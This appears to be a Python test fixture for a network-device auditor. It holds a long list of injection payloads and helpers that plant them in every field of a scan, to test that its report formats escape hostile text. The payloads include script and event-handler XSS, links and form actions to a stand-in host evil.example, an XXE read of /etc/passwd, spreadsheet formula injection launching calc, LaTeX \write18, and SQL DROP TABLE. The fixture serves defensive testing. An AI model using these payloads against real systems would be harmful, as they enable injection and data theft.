"""Texts that a hostile device or a stranger's document may hold, and a scan full of them.

One list for every format: HTML, PDF, XLSX, CSV, Markdown, terminal and the rest.
"""

from collections.abc import Callable, Iterator
from dataclasses import replace
from itertools import cycle

from auditor.model.document import Asset, Coverage, Foreign, LawNote, MethodState, Scan
from auditor.model.facts import Attempt, Observation
from auditor.model.judgement import Attribution, Evidence, Verdict
from auditor.model.words import Ending

OWNED = "owned"
"""What a script payload writes into the title of a page, were it to run."""

PAYLOADS: tuple[str, ...] = (
    # elements that run or load
    "<script>document.title='owned'</script>",
    "<ScRiPt >document.title='owned'</sCrIpT >",
    "<scr<script>ipt>document.title='owned'</scr</script>ipt>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src=https://evil.example/i.png>",
    "<svg onload=document.title='owned'>",
    "<svg/onload=document.title='owned'//",
    "<svg><script>document.title='owned'</script></svg>",
    "<svg><animate onbegin=document.title='owned' attributeName=x dur=1s>",
    "<details open ontoggle=document.title='owned'>",
    "<input autofocus onfocus=document.title='owned'>",
    "<video><source onerror=document.title='owned'></video>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<object data=x></object><embed src=x>",
    "<math><mi//xlink:href=\"data:x,<script>document.title='owned'</script>\">",
    "<form action=https://evil.example/><input name=q autofocus></form>",
    "<button popovertarget=x onclick=document.title='owned'>x</button>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<template shadowrootmode=open><script>document.title='owned'</script></template>",
    # leaving the element that holds it
    "</script><script>document.title='owned'</script>",
    "</script ><img src=x onerror=document.title='owned'>",
    "</style><script>document.title='owned'</script>",
    "</title><script>document.title='owned'</script>",
    "</textarea><script>document.title='owned'</script>",
    "</noscript><script>document.title='owned'</script>",
    "</code></li></ul></td></tr></tbody></table><script>document.title='owned'</script>",
    "--><script>document.title='owned'</script><!--",
    "<!--<script>",
    "<!-- <b>",
    "]]><x/>",
    "<![CDATA[<script>document.title='owned'</script>]]>",
    "\" onmouseover=\"document.title='owned'\" x=\"",
    "' onfocus='document.title=\"owned\"' autofocus='",
    "x onmouseover=document.title='owned' y",
    # leaving a string of a script, of JSON or of a template
    '"};document.title="owned";//',
    "\\\";document.title='owned'//",
    "\\u003cscript\\u003edocument.title='owned'\\u003c/script\\u003e",
    '{"__proto__":{"hidden":true},"constructor":{"name":"x"}}',
    "__proto__",
    "constructor",
    "`-alert(1)-`",
    "${document.title='owned'}",
    "{{constructor.constructor('document.title=1')()}}",
    "{shown} {0} {name} %s %(x)s ${y} $& $1",
    '#[[ $evil ]] #let x = read("/etc/passwd") #import "@preview/x:1.0.0": *',
    # line ends that JavaScript, but not JSON, knows
    "a\u2028document.title='owned'\u2029b",
    # addresses
    "javascript:document.title='owned'",
    "JaVaScRiPt&colon;document.title='owned'",
    "java\tscript:document.title='owned'",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "data:text/html,<script>document.title='owned'</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://evil.example/?steal",
    "http://evil.example/",
    "//evil.example/x.js",
    "\\\\evil.example\\share",
    # entities
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;document.title='owned'&lt;/script&gt; &#60;b&#62; &amp;",
    "&#x3c;img src=x onerror=document.title=1&#x3e;",
    # style
    "} body { display: none } * { background: url(https://evil.example/) }",
    "expression(alert(1)); -moz-binding:url(x)",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<b style="position:fixed;inset:0;background:url(https://evil.example/)">x</b>',
    # direction, control, invisible and broken characters
    "\u202egnp.exe\u202c \u2066\u2069 \u200f \u061c",
    "a\x00b\x07c\x1b[31mred\x1b]0;title\x07\x9b2J\r\n\ttab",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\ud800 lone \udfff",
    "zero\u200bwidth\u00ad\ufeff\U000e0041",
    "Z" + "\u0300\u0301\u0302" * 40,
    "\uff1cscript\uff1edocument.title='owned'\uff1c/script\uff1e",
    "\ufffe\uffff\U0010ffff",
    # formulas, field codes and other markup
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1",=1+1',
    "{=1+1}",
    "[link](https://evil.example) ![img](https://evil.example/i.png) **b** `c` | cell |\n# head",
    "[click](javascript:alert(1)) <https://evil.example>",
    "[red]rich markup[/red] [link=https://evil.example]x[/link] [/]",
    "\\input{/etc/passwd} \\write18{id} $x$ _y_ ^z^",
    "'; DROP TABLE scans; --",
    # size
    "x" * 5000,
    "<" * 2000,
)  # fmt: skip

_Next = Callable[[], str]


def poisoned(scan: Scan, payload: str | None = None, *, document: bool = False) -> Scan:
    """The scan with a payload in every text that a device or the network controls.

    Args:
        scan: any scan; its shape (devices, children, evidence, verdicts) is kept.
        payload: put into every field; None takes the payloads of the list in turn, one a field.
        document: also poison what only a forged document can hold: header, verdicts, law, ids,
            rules, vendors.

    Lone surrogates become question marks, as no value of the product can hold them.
    """
    turn: Iterator[str] = cycle(PAYLOADS if payload is None else (payload,))

    def take() -> str:
        return next(turn).encode("utf-8", "replace").decode("utf-8")

    told = replace(
        scan,
        scan=replace(scan.scan, site=take()),
        coverage=_coverage(scan.coverage, take),
        assets=tuple(_asset(item, take, document=document) for item in scan.assets),
    )
    return _forged(told, take) if document else told


def _asset(asset: Asset, take: _Next, *, document: bool) -> Asset:
    places = {item.endpoint: take() for item in asset.observations if item.endpoint}
    return replace(
        asset,
        id=take() if document else asset.id,
        headline=take() if document else asset.headline,
        address=take(),
        addresses=(take(), take()),
        mac=take(),
        hostname=take(),
        brand=take(),
        model=take(),
        serial=take(),
        firmware=take(),
        built=take(),
        oem_customer=take(),
        attributions=tuple(_attribution(item, take, places, document=document) for item in asset.attributions),
        verdicts=tuple(_verdict(item, take) if document else item for item in asset.verdicts),
        notes=(*asset.notes, take()),
        attempts=(*(_attempt(item, take, places) for item in asset.attempts), _asked(take)),
        observations=tuple(_observation(item, take, places) for item in asset.observations),
        children=tuple(_asset(child, take, document=document) for child in asset.children),
    )  # fmt: skip


def _observation(item: Observation, take: _Next, places: dict[str, str]) -> Observation:
    endpoint = places.get(item.endpoint, item.endpoint) if item.endpoint else None
    return replace(item, value=take(), endpoint=endpoint, probe=take(), at=take())


def _attribution(
    item: Attribution, take: _Next, places: dict[str, str], *, document: bool
) -> Attribution:
    def shown(evidence: Evidence) -> Evidence:
        endpoint = places.get(evidence.endpoint, evidence.endpoint) if evidence.endpoint else None
        forged = {"rule": take(), "sources": (take(), take())} if document else {}
        return replace(evidence, value=take(), endpoint=endpoint, **forged)

    return replace(
        item,
        vendor=take() if document else item.vendor,
        entity=take(),
        because=tuple(shown(evidence) for evidence in item.because),
        against=tuple(shown(evidence) for evidence in item.against),
    )


def _attempt(item: Attempt, take: _Next, places: dict[str, str]) -> Attempt:
    return replace(item, endpoint=places.get(item.endpoint, take()), detail=take())


def _asked(take: _Next) -> Attempt:
    return Attempt(probe=take(), endpoint=take(), outcome=Ending.MALFORMED, detail=take())


def _coverage(cover: Coverage, take: _Next) -> Coverage:
    seen = Observation(signal="wsd.scopes", value=take(), endpoint=take(), probe=take())
    foreign = Foreign(address=take(), mac=take(), observations=(seen,))
    return replace(
        cover,
        not_assessed=tuple(
            replace(item, address=take(), why=take()) for item in cover.not_assessed
        ),
        methods=(
            *cover.methods,
            MethodState(method=take(), state=take(), interface=take(), why=take()),
        ),
        out_of_scope=(*cover.out_of_scope, foreign),
        notes=(*cover.notes, take()),
        missing_from_baseline=(*cover.missing_from_baseline, take()),
    )


def _verdict(item: Verdict, take: _Next) -> Verdict:
    return replace(
        item, regime=take(), reasons=(take(),), listing=take(), citation=take(), effective=take(),
        vendor=take(), says=take(), source=take(), evidence_as_of=take(), exemption=take(),
    )  # fmt: skip


def _forged(scan: Scan, take: _Next) -> Scan:
    header = replace(
        scan.scan, id=take(), started=take(), finished=take(), tool=take(), db_version=take(),
        db_digest=take(), scope=(take(), take()), as_of=take(), policy=take(), exclude=(take(),),
        engine=take(), profile=(take(),), complete=False, incomplete_because=(take(),),
    )  # fmt: skip
    ledger = replace(
        scan.coverage.ledger, answered=(take(),), silent=(take(),), excluded=(take(),),
        not_scanned=(take(),), not_scanned_why=take(),
    )  # fmt: skip
    return replace(
        scan,
        scan=header,
        coverage=replace(scan.coverage, ledger=ledger),
        sent=replace(scan.sent, by_probe={take(): 1, take(): 2}),
        law=tuple(_law(note, take) for note in scan.law),
        vendors=tuple(replace(note, name=take(), country=take()) for note in scan.vendors),
    )


def _law(note: LawNote, take: _Next) -> LawNote:
    return replace(
        note, id=take(), name=take(), citation=take(), authority=take(), jurisdiction=take(),
        finding_class=take(), status=take(), evidence_as_of=take(), applies_if=(take(),),
        meaning=take(), limits=(take(), take()), action=take(), source=take(),
    )  # fmt: skip
